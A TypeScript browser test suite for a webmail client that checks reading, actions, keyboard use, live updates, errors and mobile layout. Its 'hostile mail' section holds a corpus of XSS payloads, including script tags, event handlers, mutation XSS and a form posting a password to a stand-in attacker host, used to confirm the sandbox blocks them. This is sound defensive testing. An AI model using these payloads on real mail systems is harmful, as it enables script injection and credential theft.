import fs from "node:fs";
import path from "node:path";
import { ImapFlow } from "imapflow";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { revokeAllSessions } from "../../lib/auth/sessions.ts";
import { deliverMessage } from "../../lib/mail/deliver.ts";
import { pigeonImapEndpoint } from "../../lib/imap-client/connection.ts";
import { seedUsers } from "../helpers/fixtures.ts";
import { launchChromium, signInInBrowser, submitSignInForm } from "../helpers/web.ts";
import { startMailStack, type MailStack } from "../web/mail-stack.ts";
import { htmlMessage, seedSampleMail, textMessage } from "../web/sample-mail.ts";

// The webmail in Debian's Chromium against `next start`, which talks IMAP to Pigeon's real IMAP
// server started here: sign-in, the list, a conversation, actions by mouse and keyboard, live
// arrival, errors, a phone-sized screen, and hostile HTML that must not run or reach anywhere.

let stack: MailStack;
let browser: Browser;
let users: Record<string, { id: number; email: string }>;
const contexts: BrowserContext[] = [];
const SHOTS = path.resolve(import.meta.dirname, "screenshots");

beforeAll(async () => {
  stack = await startMailStack({ web: true });
  users = (await seedUsers(["reader", "actor", "live", "hostile", "keys", "phone", "broken"])).users;
  for (const u of Object.values(users)) await seedSampleMail(u);
  browser = await launchChromium();
  fs.mkdirSync(SHOTS, { recursive: true });
}, 360_000);

afterEach(async () => {
  for (const c of contexts.splice(0)) await c.close();
});

afterAll(async () => {
  await browser?.close();
  await stack?.stop();
});

interface Watched {
  page: Page;
  /** Requests to any host but the web server's (each one is also aborted). */
  foreign: string[];
  dialogs: string[];
  errors: string[];
  /** console.error output, but for resource loads (the aborted foreign ones, expected 4xx/5xx). */
  consoleErrors: string[];
}

async function newPage(opts: { viewport?: { width: number; height: number }; colorScheme?: "light" | "dark" } = {}): Promise<Watched> {
  const web = stack.web!;
  const context = await browser.newContext({ baseURL: web.url, viewport: opts.viewport ?? { width: 1360, height: 860 }, colorScheme: opts.colorScheme ?? "light" });
  contexts.push(context);
  const foreign: string[] = [];
  const dialogs: string[] = [];
  const errors: string[] = [];
  const consoleErrors: string[] = [];
  const origin = new URL(web.url).origin;
  await context.route("**/*", (route) => {
    const url = route.request().url();
    if (url.startsWith(origin) || url.startsWith("data:") || url.startsWith("about:") || url.startsWith("blob:")) return route.continue();
    foreign.push(url);
    return route.abort();
  });
  const page = await context.newPage();
  page.setDefaultTimeout(15_000);
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on("pageerror", (e) => errors.push(e.message));
  page.on("console", (m) => {
    if (m.type() === "error" && !m.text().startsWith("Failed to load resource")) consoleErrors.push(m.text());
  });
  return { page, foreign, dialogs, errors, consoleErrors };
}

async function signIn(page: Page, email: string) {
  await signInInBrowser(page, email);
  await page.getByTestId("conversation-row").first().waitFor();
}

const rowByText = (page: Page, text: string) => page.getByTestId("conversation-row").filter({ hasText: text });

async function shot(page: Page, name: string) {
  await page.screenshot({ path: path.join(SHOTS, `mail-${name}.png`) });
}

describe("reading", () => {
  it("shows the seeded inbox, opens a conversation gathered from Inbox and Sent, and renders text, HTML and attachments", async () => {
    const { page, foreign, dialogs, errors, consoleErrors } = await newPage();
    await signIn(page, users.reader.email);
    const rows = page.getByTestId("conversation-row");
    await expect.poll(() => rows.count()).toBe(5);
    expect(await rows.first().textContent()).toContain("Patch review");
    // Unread in bold, starred marked, attachment marked.
    expect(await rowByText(page, "Patch review").getAttribute("data-unread")).toBe("true");
    expect(await rowByText(page, "Compiler notes").getAttribute("data-unread")).toBe("false");
    expect(await rowByText(page, "Analytical Engine").getAttribute("data-starred")).toBe("true");
    await rowByText(page, "Analytical Engine").getByRole("img", { name: "Has attachments" }).waitFor();
    const inbox = page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Inbox/ });
    expect(await inbox.textContent()).toMatch(/Inbox\s*4$/);
    await shot(page, "inbox");

    await rowByText(page, "Lunch on Thursday").click();
    await page.waitForURL(/\?t=T/);
    const conversation = page.getByTestId("conversation");
    await conversation.getByRole("heading", { name: /Lunch on Thursday\?/ }).waitFor();
    // Three messages: two from the Inbox and the reply filed in Sent; the older ones folded.
    await expect.poll(() => conversation.getByTestId("message-collapsed").count()).toBe(2);
    await expect.poll(() => conversation.getByTestId("message").count()).toBe(1);
    await conversation.getByTestId("message-collapsed").filter({ hasText: "me" }).click();
    await conversation.getByText("Thursday works. Noon at the usual place?").waitFor();
    const link = conversation.getByRole("link", { name: "www.example.com/enigma" });
    expect(await link.getAttribute("href")).toBe("https://www.example.com/enigma");
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    // Opening read it.
    await expect.poll(() => rowByText(page, "Lunch on Thursday").getAttribute("data-unread")).toBe("false");
    await shot(page, "conversation");

    // HTML: sandboxed, cid: logo inline, the remote banner blocked until asked for.
    await rowByText(page, "This week: pigeons").click();
    const frameEl = conversation.locator("iframe");
    await frameEl.waitFor();
    expect(await frameEl.getAttribute("sandbox")).toBe("allow-popups allow-popups-to-escape-sandbox");
    const frame = (await frameEl.elementHandle())!.contentFrame();
    const f = (await frame)!;
    await f.getByRole("heading", { name: "The Weekly" }).waitFor();
    expect(await f.locator('img[alt="The Weekly"]').getAttribute("src")).toMatch(/^data:image\/png;base64,/);
    expect(await f.locator('img[alt="Banner"]').getAttribute("src")).toBeNull();
    await conversation.getByTestId("images-blocked").waitFor();
    expect(foreign).toEqual([]);
    await shot(page, "html");
    await conversation.getByRole("button", { name: "Show images", exact: true }).click();
    await expect.poll(() => foreign.some((u) => u.includes("images.example.net/banner.png"))).toBe(true);

    // Attachments: listed with type and size, downloaded (never shown inline).
    await rowByText(page, "Analytical Engine").click();
    const attachments = conversation.getByTestId("attachment");
    await expect.poll(() => attachments.count()).toBe(2);
    expect(await attachments.nth(1).textContent()).toMatch(/notes\.html.*text\/html/);
    const [download] = await Promise.all([page.waitForEvent("download"), attachments.nth(1).click()]);
    expect(download.suggestedFilename()).toBe("notes.html");
    const res = await page.request.get(await attachments.nth(1).getAttribute("href").then((h) => h!));
    expect(res.headers()["content-type"]).toBe("application/octet-stream");
    expect(res.headers()["content-disposition"]).toMatch(/^attachment; filename="notes.html"/);
    expect(await res.text()).toContain("<script>");

    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    // No hydration mismatch or React warning on the way.
    expect(consoleErrors).toEqual([]);
  });
});

describe("acting", () => {
  it("stars, archives, moves, bulk-selects, marks spam and not spam, and manages folders", async () => {
    const { page, errors } = await newPage();
    await signIn(page, users.actor.email);
    const rows = page.getByTestId("conversation-row");
    const rail = page.getByRole("navigation", { name: "Folders" });
    await expect.poll(() => rows.count()).toBe(5);

    // Star from the list.
    await rowByText(page, "Patch review").getByRole("button", { name: "Star: Patch review" }).click();
    await expect.poll(() => rowByText(page, "Patch review").getAttribute("data-starred")).toBe("true");
    await rail.getByRole("link", { name: "Starred" }).click();
    await expect.poll(() => rows.count()).toBe(2);
    await rail.getByRole("link", { name: /^Inbox/ }).click();
    await expect.poll(() => rows.count()).toBe(5);

    // Archive from the open conversation: it leaves the Inbox and shows in Archive.
    await rowByText(page, "Compiler notes").click();
    await page.getByTestId("conversation").getByRole("heading", { name: /Compiler notes/ }).waitFor();
    await page.getByRole("toolbar", { name: "Conversation actions" }).getByRole("button", { name: "Archive" }).click();
    await expect.poll(() => rows.count()).toBe(4);
    await page.getByTestId("notice").filter({ hasText: "archived" }).waitFor();
    await rail.getByRole("link", { name: "Archive" }).click();
    await expect.poll(() => rowByText(page, "Compiler notes").count()).toBe(1);

    // A folder of one's own, and a move into it.
    await rail.getByRole("button", { name: "Create folder" }).click();
    await page.getByRole("dialog").getByLabel("Folder name").fill("Projects");
    await page.getByRole("dialog").getByRole("button", { name: "Create" }).click();
    await page.waitForURL(/box=Projects/);
    await rail.getByRole("link", { name: /^Inbox/ }).click();
    await expect.poll(() => rows.count()).toBe(4);
    await rowByText(page, "Analytical Engine").click();
    await page.getByTestId("conversation").getByRole("heading", { name: /Analytical Engine/ }).waitFor();
    await page.getByRole("toolbar", { name: "Conversation actions" }).getByLabel("Move to").selectOption("Projects");
    await expect.poll(() => rows.count()).toBe(3);
    await rail.getByRole("link", { name: "Projects" }).click();
    await expect.poll(() => rowByText(page, "Analytical Engine").count()).toBe(1);

    // Rename and delete the folder.
    await rail.getByRole("button", { name: "Folder actions for Projects" }).click();
    await page.getByRole("menuitem", { name: "Rename" }).click();
    await page.getByRole("dialog").getByLabel("New name").fill("Engines");
    await page.getByRole("dialog").getByRole("button", { name: "Rename" }).click();
    await page.waitForURL(/box=Engines/);
    await expect.poll(() => rowByText(page, "Analytical Engine").count()).toBe(1);
    await rail.getByRole("button", { name: "Folder actions for Engines" }).click();
    await page.getByRole("menuitem", { name: "Delete" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Delete folder" }).click();
    await page.waitForURL((u) => !u.search.includes("box="));
    await expect.poll(() => rail.getByRole("link", { name: "Engines" }).count()).toBe(0);

    // Bulk: select two, mark read, then report them as spam, then back out of Junk.
    await expect.poll(() => rows.count()).toBe(3);
    await rowByText(page, "Patch review").getByRole("checkbox").check();
    await rowByText(page, "This week").getByRole("checkbox").check();
    const toolbar = page.getByRole("toolbar", { name: "List actions" });
    await toolbar.getByText("2 selected").waitFor();
    await toolbar.getByRole("button", { name: "Mark as read" }).click();
    await expect.poll(() => rowByText(page, "Patch review").getAttribute("data-unread")).toBe("false");
    await expect.poll(() => rowByText(page, "This week").getAttribute("data-unread")).toBe("false");
    await toolbar.getByRole("button", { name: "Report spam" }).click();
    await expect.poll(() => rows.count()).toBe(1);
    await rail.getByRole("link", { name: "Junk" }).click();
    await expect.poll(() => rows.count()).toBe(2);
    await toolbar.getByRole("checkbox", { name: "Select all loaded conversations" }).check();
    await toolbar.getByRole("button", { name: "Not spam" }).click();
    await expect.poll(() => rows.count()).toBe(0);
    await rail.getByRole("link", { name: /^Inbox/ }).click();
    await expect.poll(() => rows.count()).toBe(3);
    expect(errors).toEqual([]);
  });

  it("works from the keyboard alone: j/k, o, u, x, e, #, s, Shift+I, Shift+U, /, g i and ?", async () => {
    const { page, errors } = await newPage();
    await signIn(page, users.keys.email);
    const rows = page.getByTestId("conversation-row");
    await expect.poll(() => rows.count()).toBe(5);
    const focusedSubject = () => page.evaluate(() => document.activeElement?.closest("[data-testid=conversation-row]")?.textContent ?? "");

    // Tab reaches the list in order: search, rail, toolbar, then the list as one stop.
    await page.keyboard.press("j");
    await expect.poll(focusedSubject).toContain("Analytical Engine");
    await page.keyboard.press("j");
    await expect.poll(focusedSubject).toContain("This week");
    await page.keyboard.press("k");
    await expect.poll(focusedSubject).toContain("Analytical Engine");
    await page.keyboard.press("s");
    await expect.poll(() => rowByText(page, "Analytical Engine").getAttribute("data-starred")).toBe("false");
    await page.keyboard.press("s");
    await expect.poll(() => rowByText(page, "Analytical Engine").getAttribute("data-starred")).toBe("true");
    await page.keyboard.press("Shift+I");
    await expect.poll(() => rowByText(page, "Analytical Engine").getAttribute("data-unread")).toBe("false");
    await page.keyboard.press("Shift+U");
    await expect.poll(() => rowByText(page, "Analytical Engine").getAttribute("data-unread")).toBe("true");
    await page.keyboard.press("o");
    await page.getByTestId("conversation").getByRole("heading", { name: /Analytical Engine/ }).waitFor();
    // j in a conversation opens the next (older) one.
    await page.keyboard.press("j");
    await page.getByTestId("conversation").getByRole("heading", { name: /This week/ }).waitFor();
    await page.keyboard.press("u");
    await page.waitForURL((u) => !u.search.includes("t="));
    // x selects, e archives the selection.
    await page.keyboard.press("x");
    await page.getByRole("toolbar", { name: "List actions" }).getByText("1 selected").waitFor();
    await page.keyboard.press("e");
    await expect.poll(() => rows.count()).toBe(4);
    await expect.poll(() => rowByText(page, "This week").count()).toBe(0);
    // # deletes the focused conversation.
    await page.keyboard.press("k");
    await page.keyboard.press("#");
    await expect.poll(() => rows.count()).toBe(3);
    // / searches; g i goes back to the Inbox.
    await page.keyboard.press("/");
    await page.keyboard.type("Enigma");
    await page.keyboard.press("Enter");
    await page.waitForURL(/q=Enigma/);
    await expect.poll(() => rows.count()).toBe(1);
    await page.keyboard.press("g");
    await page.keyboard.press("i");
    await page.waitForURL((u) => !u.search.includes("q="));
    await expect.poll(() => rows.count()).toBe(3);
    await page.keyboard.press("?");
    const help = page.getByRole("dialog", { name: "Keyboard shortcuts" });
    await help.waitFor();
    await shot(page, "shortcuts");
    await page.keyboard.press("Escape");
    await help.waitFor({ state: "hidden" });
    expect(errors).toEqual([]);
  });
});

describe("live", () => {
  it("shows a delivered message within 2 seconds, and a flag set in another IMAP client, without reloading", async () => {
    const { page, errors } = await newPage();
    await signIn(page, users.live.email);
    const rows = page.getByTestId("conversation-row");
    await expect.poll(() => rows.count()).toBe(5);
    await page.getByRole("img", { name: "Live updates on" }).waitFor();
    await page.evaluate(() => ((window as unknown as { marker: number }).marker = 42));

    const started = Date.now();
    if (process.env.DEBUG_LIVE) {
      page.on("request", (r) => console.log("req", Date.now() - started, r.url()));
      page.on("response", (r) => console.log("res", Date.now() - started, r.status(), r.url()));
    }
    await deliverMessage({
      raw: textMessage({ from: "Margaret Hamilton <margaret@apollo.example>", to: users.live.email, subject: "Landing software ready", id: "<apollo-11@apollo.example>", body: "All go." }),
      targets: [{ userId: users.live.id }],
    });
    await rowByText(page, "Landing software ready").waitFor({ timeout: 2000 });
    const arrival = Date.now() - started;
    expect(arrival).toBeLessThan(2000);
    expect(await rows.first().textContent()).toContain("Landing software ready");

    // Another IMAP client flags a message.
    const other = new ImapFlow({ ...imapflowOptions(), auth: { user: users.live.email, pass: "correct horse" } });
    await other.connect();
    try {
      await other.mailboxOpen("INBOX");
      const [uid] = (await other.search({ subject: "Compiler notes" }, { uid: true })) as number[];
      const flagged = Date.now();
      await other.messageFlagsAdd(String(uid), ["\\Flagged"], { uid: true });
      await expect.poll(() => rowByText(page, "Compiler notes").getAttribute("data-starred"), { timeout: 2000 }).toBe("true");
      expect(Date.now() - flagged).toBeLessThan(2000);
    } finally {
      await other.logout();
    }
    // No reload happened.
    expect(await page.evaluate(() => (window as unknown as { marker: number }).marker)).toBe(42);
    console.log(`live arrival shown after ${arrival} ms`);
    expect(errors).toEqual([]);
  });
});

let endpointOptions: Awaited<ReturnType<typeof pigeonImapEndpoint>> | null = null;
function imapflowOptions() {
  const e = endpointOptions!;
  return { host: e.host, port: e.port, secure: false, doSTARTTLS: true, tls: e.tls, logger: false as const };
}
beforeAll(async () => {
  endpointOptions = await pigeonImapEndpoint(stack.config);
});

describe("errors", () => {
  it("says when the mail server is unreachable, keeps the reader's place, and recovers by itself", async () => {
    const { page } = await newPage();
    await signIn(page, users.broken.email);
    await rowByText(page, "Lunch on Thursday").click();
    await page.getByTestId("conversation").getByRole("heading", { name: /Lunch on Thursday/ }).waitFor();
    const url = page.url();

    await stack.stopImap();
    try {
      await page.getByRole("button", { name: "Refresh" }).click();
      await page.getByTestId("offline-banner").waitFor();
      expect(await page.getByTestId("offline-banner").textContent()).toMatch(/cannot be reached/);
      await shot(page, "offline");
      // Nothing the reader had is gone.
      expect(page.url()).toBe(url);
      expect(await page.getByTestId("conversation-row").count()).toBe(5);
      await page.getByTestId("conversation").getByText("Noon it is.").waitFor();
    } finally {
      await stack.startImap();
    }
    await page.getByTestId("offline-banner").waitFor({ state: "hidden", timeout: 15_000 });
    // Working again: an action goes through.
    await page.getByRole("toolbar", { name: "Conversation actions" }).getByRole("button", { name: "Star" }).click();
    await expect.poll(() => rowByText(page, "Lunch on Thursday").getAttribute("data-starred")).toBe("true");
  });

  it("sends the reader to sign in when the session ends, and back to the same place after", async () => {
    const { page } = await newPage();
    await signIn(page, users.broken.email);
    await rowByText(page, "Patch review").click();
    await page.getByTestId("conversation").getByRole("heading", { name: /Patch review/ }).waitFor();
    const place = new URL(page.url());
    await revokeAllSessions({ userId: users.broken.id });
    // The star's request meets the ended session. The page's live-update stream may meet it first
    // and be leaving already, so the click does not wait for the button to settle.
    const star = page.getByRole("toolbar", { name: "Conversation actions" }).getByRole("button", { name: "Star" });
    void star.dispatchEvent("click", undefined, { timeout: 5000 }).catch(() => undefined);
    await page.waitForURL("**/login");
    await submitSignInForm(page, users.broken.email);
    await page.waitForURL((u) => u.pathname === "/mail" && u.search === place.search);
    await page.getByTestId("conversation").getByRole("heading", { name: /Patch review/ }).waitFor();
  });
});

describe("small screens and dark mode", () => {
  it("shows the list and the conversation as separate views on a phone", async () => {
    const { page, errors } = await newPage({ viewport: { width: 390, height: 844 } });
    await signIn(page, users.phone.email);
    const list = page.getByRole("region", { name: "Inbox conversations" });
    const conversation = page.getByRole("region", { name: "Conversation", exact: true });
    expect(await list.isVisible()).toBe(true);
    expect(await conversation.isVisible()).toBe(false);
    expect(await page.getByRole("navigation", { name: "Folders" }).isVisible()).toBe(false);
    await shot(page, "phone-inbox");
    await rowByText(page, "Lunch on Thursday").click();
    await conversation.getByRole("heading", { name: /Lunch on Thursday/ }).waitFor();
    expect(await list.isVisible()).toBe(false);
    await shot(page, "phone-conversation");
    await page.getByRole("button", { name: "Back to the list" }).click();
    await list.waitFor();
    expect(await conversation.isVisible()).toBe(false);
    await page.getByRole("button", { name: "Folders" }).click();
    await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: "Sent" }).click();
    await page.waitForURL(/box=Sent/);
    await rowByText(page, "Lunch on Thursday").waitFor();
    expect(errors).toEqual([]);
  });

  it("follows the system's dark mode", async () => {
    const { page } = await newPage({ colorScheme: "dark" });
    await signIn(page, users.phone.email);
    await rowByText(page, "This week").click();
    await page.getByTestId("conversation").locator("iframe").waitFor();
    const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    expect(bg).not.toBe("rgb(248, 250, 252)");
    await shot(page, "dark");
  });
});

describe("hostile mail", () => {
  const EVIL = "evil.example";
  const corpus: [string, string][] = [
    ["script tags", `<p>a</p><script>alert("script");window.top.__pwned="script"</script><script src="http://${EVIL}/x.js"></script>`],
    ["event handlers", `<img src="x" onerror="alert('onerror')"><body onload="alert('onload')"><div onmouseover="alert('over')" style="height:50px">hover me</div><details open ontoggle="alert('toggle')"><summary>s</summary></details>`],
    ["javascript: links", `<a id="js" href="javascript:alert('js-link')">click me</a> <a href=" JaVaScRiPt:alert('js2')">two</a> <a href="data:text/html,<script>alert(1)</script>">data</a>`],
    ["SVG with animate", `<svg><animate onbegin="alert('animate')" attributeName="x" dur="1s"/><a><animate attributeName="href" values="javascript:alert('svg-href')"/><text x="20" y="20">svg link</text></a><image href="http://${EVIL}/svg.png"/></svg>`],
    ["CSS url() and @import", `<style>@import url("http://${EVIL}/import.css"); @import 'http://${EVIL}/import2.css'; body{background:url(http://${EVIL}/bg.png)} @font-face{font-family:x;src:url(http://${EVIL}/f.woff)} p{font-family:x}</style><p style="background-image:url('http://${EVIL}/inline.png')">styled</p><div style="background:u\\72l(http://${EVIL}/escaped.png)">escaped</div><div style="width:expression(alert('expr'))">expr</div>`],
    ["meta refresh", `<meta http-equiv="refresh" content="0;url=http://${EVIL}/refresh"><p>refresh</p>`],
    ["forms", `<form action="http://${EVIL}/steal" method="post"><input name="password" value="secret"><button id="go">Go</button></form><button formaction="http://${EVIL}/fa">fa</button>`],
    ["iframes", `<iframe src="http://${EVIL}/frame"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe><frameset><frame src="http://${EVIL}/f2"></frameset>`],
    ["object and embed", `<object data="http://${EVIL}/x.swf"></object><embed src="http://${EVIL}/e.swf"><applet code="x" codebase="http://${EVIL}/"></applet>`],
    ["link, base and remote attributes", `<link rel="stylesheet" href="http://${EVIL}/l.css"><link rel="prefetch" href="http://${EVIL}/pf"><base href="http://${EVIL}/"><img srcset="http://${EVIL}/s.png 2x"><table background="http://${EVIL}/t.png"><tr><td>t</td></tr></table><video poster="http://${EVIL}/p.png"></video><audio src="http://${EVIL}/a.mp3" autoplay></audio><img src="relative.png">`],
    ["mutation XSS", `<noscript><p title="</noscript><img src=x onerror=alert('mxss')>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=alert('mxss2')>`],
  ];

  it("runs no script, shows no dialog and sends no request to another host, whatever the HTML", async () => {
    const me = users.hostile;
    for (const [i, [name, html]] of corpus.entries()) {
      await deliverMessage({ raw: htmlMessage({ from: "Mallory <mallory@evil.example>", to: me.email, subject: `XSS ${i}: ${name}`, id: `<xss-${i}@evil.example>`, html }), targets: [{ userId: me.id }] });
    }
    await deliverMessage({
      raw: textMessage({ from: "Mallory <mallory@evil.example>", to: me.email, subject: "XSS text", id: "<xss-text@evil.example>", body: "javascript:alert('text') and <script>alert('t')</script> and http://evil.example/track" }),
      targets: [{ userId: me.id }],
    });
    const { page, foreign, dialogs, errors } = await newPage();
    await signIn(page, me.email);
    const conversation = page.getByTestId("conversation");

    for (const [i, [name]] of corpus.entries()) {
      await rowByText(page, `XSS ${i}: ${name}`).click();
      await conversation.getByRole("heading", { name: `XSS ${i}: ${name}` }).waitFor();
      const frameEl = conversation.locator("iframe");
      await frameEl.waitFor();
      const frame = (await (await frameEl.elementHandle())!.contentFrame())!;
      await frame.waitForLoadState("load");
      // Poke what can be poked: hover, click links and buttons inside the mail.
      await frame.locator("body").hover().catch(() => undefined);
      for (const sel of ["#js", "#go", "a", "button"]) {
        const el = frame.locator(sel).first();
        if (await el.count()) await el.click({ timeout: 1000, noWaitAfter: true }).catch(() => undefined);
      }
      await page.waitForTimeout(300);
      for (const f of page.frames()) {
        expect(await f.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null).catch(() => null), `${name} in ${f.url()}`).toBeNull();
      }
      expect(await frame.locator("script, iframe, object, embed, form, svg, meta[http-equiv=refresh], link, base[href], [onerror], [onload]").count(), name).toBe(0);
      expect(dialogs, name).toEqual([]);
      expect(foreign, name).toEqual([]);
      if (i === 4) await shot(page, "xss");
    }
    // The plain-text one: only the real URL is a link, and it points where it says.
    await rowByText(page, "XSS text").click();
    await conversation.getByText("javascript:alert('text')", { exact: false }).waitFor();
    const links = conversation.getByTestId("text-body").getByRole("link");
    expect(await links.count()).toBe(1);
    expect(await links.first().getAttribute("href")).toBe("http://evil.example/track");
    expect(await page.title()).not.toContain("alert");
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    expect(errors).toEqual([]);
    // The main page never changed location.
    expect(new URL(page.url()).origin).toBe(new URL(stack.web!.url).origin);
  });
});
